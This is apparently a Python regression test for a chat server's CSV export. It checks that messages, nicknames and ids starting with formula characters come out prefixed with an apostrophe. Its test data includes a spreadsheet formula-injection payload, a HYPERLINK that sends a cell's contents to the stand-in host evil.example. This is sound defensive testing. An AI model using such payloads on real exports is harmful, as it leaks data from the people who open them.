"""Input holes of issue 11 (items 12-14), tried as an attacker would: chat text that a spreadsheet runs
when an operator opens the CSV export, query parameters that made the operators' API answer 500, and
U+0000 that SQLite stored and PostgreSQL refused with its own error text. In-process apps on SQLite and
PostgreSQL."""

from __future__ import annotations

import csv
import io

from support.operators import OPERATOR, seed
from support.ws import connect

EVENTS = "/api/channels/{}/events"

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)", "\tTAB", "\rCR"]


async def csv_rows(client, channel: str) -> list[list[str]]:
    response = await client.get(EVENTS.format(channel) + "?format=csv", headers=OPERATOR)
    assert response.status == 200, await response.text()
    return list(csv.reader(io.StringIO(await response.text(), newline="")))


async def test_the_csv_export_neutralises_formulas(start) -> None:
    client = await start()
    # A guest named `=cmd` says each formula on the socket, as anyone may.
    guest = await connect(client, channel="room", nickname="=cmd")
    for text in FORMULAS:
        await guest.send(type="message", content=text)
        await guest.expect("message", content=text)
    # Other columns an attacker chooses: a user id, an op id, an event type; and text that is harmless.
    await seed(client, "room", [{"type": "message", "data": {"content": "a-b = c"}, "user": "-u", "id": "@op"}])

    rows = await csv_rows(client, "room")
    header, said = rows[0], [row for row in rows[1:] if row[3] == "message"]
    content, nickname, user_id, op_id = (header.index(name) for name in ("content", "nickname", "user_id", "id"))
    assert [row[content] for row in said] == [*("'" + text for text in FORMULAS), "a-b = c"]
    assert {row[nickname] for row in said[:-1]} == {"'=cmd"}
    assert said[-1][user_id] == "'-u" and said[-1][op_id] == "'@op"
    assert all(row[0].isdigit() for row in rows[1:])  # numbers stay numbers
